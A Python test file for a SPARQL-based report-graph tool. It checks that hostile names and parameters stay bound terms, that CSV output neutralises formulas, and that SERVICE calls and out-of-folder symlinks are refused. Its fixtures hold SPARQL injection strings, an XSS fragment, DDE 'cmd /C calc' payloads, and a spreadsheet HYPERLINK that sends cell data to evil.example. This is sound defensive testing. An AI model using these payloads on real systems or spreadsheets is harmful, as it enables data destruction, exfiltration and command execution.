"""Hostile text reaches SPARQL only as bound terms: names in the graph and every
``--param`` value, on the embedded store, rdflib's store and a real Virtuoso."""

from __future__ import annotations

import csv
import http.server
import io
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
from conftest import ROOT, SEED_PATH, rename_people
from typer.testing import CliRunner
from virtuoso import Virtuoso

from igfgraph.cli import app
from igfgraph.errors import QueryError
from igfgraph.ingest import collect_files, ingest, load_reports
from igfgraph.queries import run_query
from igfgraph.spreadsheet import FORMULA_STARTS
from igfgraph.store import GraphStore, copy_graphs, open_store
from igfgraph.store.endpoint import SparqlEndpointStore

GOOD = ROOT / "tests" / "fixtures" / "corpus" / "md_ws186_2017.md"
HOSTILE_REPORT = """IGF 2017 Reporting Template

- Session Title: Quotes "and" {braces} } ; DROP ALL #

- Chair/Moderator: Ana "The Quote" Ruiz (APC)

- List of Speakers and their institutional affiliations:

Kofi Mensah (ISOC)
Lea Kaspar (GPD)
Mei O'Brien-Wang (<http://example.org/x> Lab)
Ivan Petrov (Citizen Lab} ; DROP ALL #)
Kofi {Mensah} (ISOC)
Lea <script>alert(1)</script> Kaspar (GPD)

- Key Issues raised (1 sentence per issue)

Names can hold anything.
"""
# The reader takes quotes and apostrophes in names, never braces or markup: those two
# lines are kept unparsed. The store then gives two people hostile names, as an imported
# graph or a curation file can.
REFUSED_LINES = ["Kofi {Mensah} (ISOC)", "Lea <script>alert(1)</script> Kaspar (GPD)"]
RENAMED = {"Kofi Mensah": "Kofi {Mensah}", "Lea Kaspar": "Lea <script>alert"}
HOSTILE_NAMES = ['Ana "The Quote" Ruiz', "Kofi {Mensah}", "Lea <script>alert", "Mei O'Brien-Wang"]
INJECTIONS = [
    '" } ; DROP ALL #',
    "' } ; DROP ALL #",
    "} ; DROP ALL #",
    '"""\n} DELETE WHERE { ?s ?p ?o } #',
    'Kathy Brown" || true || "',
    "<http://example.org/x>",
    "http://example.org/x",
    "?person_iri",
    '\\" } ; CLEAR DEFAULT',
    "line one\nline two",
    "{}",
    "",
]


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile_2017.txt"
    path.write_text(HOSTILE_REPORT, encoding="utf-8")
    return path


@pytest.fixture(params=["memory:", "rdflib-memory:", "virtuoso"])
def hostile_store(request: pytest.FixtureRequest, hostile_file: Path) -> Iterator[GraphStore]:
    """The hostile report in each kind of store."""
    local = open_store("memory:" if request.param == "virtuoso" else request.param)
    summary = ingest(local, collect_files([hostile_file]), workers=1)
    assert summary.ok, summary.failed
    rename_people(local, RENAMED)
    if request.param != "virtuoso":
        yield local
        return
    server: Virtuoso = request.getfixturevalue("virtuoso")
    remote = SparqlEndpointStore(
        server.query_url, server.update_url, user=server.user, password=server.password
    )
    copy_graphs(local, remote)
    yield remote
    for iri in remote.graph_iris():
        remote.remove_graph(iri)


def test_names_with_braces_or_markup_are_kept_unparsed(hostile_file: Path):
    report = load_reports(hostile_file)[0]
    assert [item.text for item in report.unparsed] == REFUSED_LINES
    assert {p.name for p in report.people} == {
        'Ana "The Quote" Ruiz',
        "Kofi Mensah",
        "Lea Kaspar",
        "Mei O'Brien-Wang",
        "Ivan Petrov",
    }


def test_hostile_names_and_params_are_bound_terms(hostile_store: GraphStore):
    stats = run_query(hostile_store, "stats")
    graphs = sorted(hostile_store.graph_iris())
    assert stats[0]["reports"] == 1
    for name in HOSTILE_NAMES:
        rows = run_query(hostile_store, "who_spoke_with_whom", {"person": name})
        assert {row["person"] for row in rows} == {name}
        assert len(rows) == 4  # the chair and four speakers: four partners each
        assert name not in {row["partner"] for row in rows}
    for value in INJECTIONS:  # looked up as names (bound as terms) and found as none
        for query, param in (("who_spoke_with_whom", "person"), ("person_timeline", "person")):
            with pytest.raises(QueryError, match=r"^no person named "):
                run_query(hostile_store, query, {param: value})
    assert run_query(hostile_store, "stats") == stats
    assert sorted(hostile_store.graph_iris()) == graphs


class _Recorder(http.server.BaseHTTPRequestHandler):
    """A SPARQL endpoint that counts the requests it gets and answers with no rows."""

    requests: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self._answer()

    def do_POST(self) -> None:
        self._answer()

    def _answer(self) -> None:
        type(self).requests.append(self.path)
        body = b'{"head": {"vars": ["s"]}, "results": {"bindings": []}}'
        self.send_response(200)
        self.send_header("Content-Type", "application/sparql-results+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        pass


def test_a_query_file_calls_no_other_server_unless_allowed(tmp_path: Path):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/sparql"
    query = tmp_path / "out.rq"
    query.write_text(
        f"# question: What does the other server hold?\n# columns: s\n"
        f'SELECT ?s WHERE {{ SERVICE <{url}> {{ ?s ?p "SERVICE" }} }}\n'
    )
    quiet = tmp_path / "quiet.rq"  # the word in a string, an IRI and a comment only
    quiet.write_text(
        '# question: Quiet?\n# columns: s\nSELECT ?s WHERE { ?s <http://x/SERVICE> "SERVICE" }'
        " # SERVICE\n"
    )
    store = tmp_path / "store"
    with open_store(store) as graph_store:
        ingest(graph_store, [SEED_PATH])
    try:
        refused = CliRunner().invoke(app, ["query", str(query), "--store", str(store)])
        assert refused.exit_code == 1
        assert refused.stderr == (
            f"igfgraph: {query}: calls another server (SERVICE), which would send it data "
            "from the query; run it with --allow-service if you mean to\n"
        )
        assert _Recorder.requests == []
        quiet_run = CliRunner().invoke(app, ["query", str(quiet), "--store", str(store)])
        assert quiet_run.exit_code == 0, quiet_run.stderr
        allowed = CliRunner().invoke(
            app, ["query", str(query), "--allow-service", "--store", str(store)]
        )
        assert allowed.exit_code == 0, allowed.stderr
        assert len(_Recorder.requests) >= 1
    finally:
        server.shutdown()


FORMULAS = {
    "Kathy Brown": '=HYPERLINK("http://evil.example/?"&A1,"Kathy Brown")',
    "Markus Kummer": "+cmd|' /C calc'!A0",
    "Lea Kaspar": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Kaja Ciglic": "-2+3",
}


def test_csv_cells_that_start_a_formula_are_written_as_text(tmp_path: Path):
    store = tmp_path / "store"
    with open_store(store) as graph_store:
        ingest(graph_store, [SEED_PATH])
        rename_people(graph_store, FORMULAS)
    runner = CliRunner()
    as_csv = runner.invoke(app, ["query", "people", "--format", "csv", "--store", str(store)])
    as_json = runner.invoke(app, ["query", "people", "--format", "json", "--store", str(store)])
    assert as_csv.exit_code == as_json.exit_code == 0, as_csv.stderr
    cells = [row["person"] for row in csv.DictReader(io.StringIO(as_csv.stdout))]
    assert {cell for cell in cells if cell[1:] in FORMULAS.values()} == {
        f"'{formula}" for formula in FORMULAS.values()
    }
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    names = {row["person"] for row in json.loads(as_json.stdout)}
    assert set(FORMULAS.values()) <= names  # JSON keeps the values exactly
    edges = tmp_path / "edges.csv"
    exported = runner.invoke(
        app, ["export", "--format", "csv", "--out", str(edges), "--store", str(store)]
    )
    assert exported.exit_code == 0, exported.stderr
    labels = [
        row[column]
        for row in csv.DictReader(edges.open(encoding="utf-8"))
        for column in ("source_label", "target_label")
    ]
    assert f"'{FORMULAS['Kathy Brown']}" in labels
    assert not any(label.startswith(FORMULA_STARTS) for label in labels)


def test_links_out_of_an_ingested_folder_are_not_read_unless_asked(tmp_path: Path):
    folder, outside = tmp_path / "reports", tmp_path / "private"
    folder.mkdir()
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text(SEED_PATH.read_text(encoding="utf-8"), encoding="utf-8")
    (folder / "linked.txt").symlink_to(secret)
    own = folder / "own.md"
    own.write_text(GOOD.read_text(encoding="utf-8"), encoding="utf-8")
    (folder / "again.md").symlink_to(own)  # a link inside the folder is read
    runner = CliRunner()
    store = tmp_path / "store"
    result = runner.invoke(app, ["ingest", str(folder), "--store", str(store)])
    assert result.exit_code == 0, result.stderr
    assert result.stderr == (
        f"igfgraph: warning: {folder / 'linked.txt'}: a link to a file outside its folder, "
        "not read (--follow-links reads it)\n"
    )
    with open_store(store, read_only=True) as graph_store:
        files = {row["file"] for row in run_query(graph_store, "ingested_files")}
    assert files == {str(folder / "again.md"), str(own)}
    result = runner.invoke(app, ["ingest", str(folder), "--follow-links", "--store", str(store)])
    assert result.exit_code == 0 and result.stderr == ""
    with open_store(store, read_only=True) as graph_store:
        files = {row["file"] for row in run_query(graph_store, "ingested_files")}
    assert str(folder / "linked.txt") in files


def test_a_service_call_that_fails_is_one_line(tmp_path: Path):
    query = tmp_path / "away.rq"
    query.write_text(
        "# question: What does a server that is not there hold?\n# columns: s\n"
        "SELECT ?s WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }\n"
    )
    store = tmp_path / "store"
    with open_store(store) as graph_store:
        ingest(graph_store, [SEED_PATH])
    result = CliRunner().invoke(
        app, ["query", str(query), "--allow-service", "--store", str(store)]
    )
    assert result.exit_code == 1
    assert result.stderr.startswith(f"igfgraph: {store}: the query failed (")
    assert len(result.stderr.splitlines()) == 1
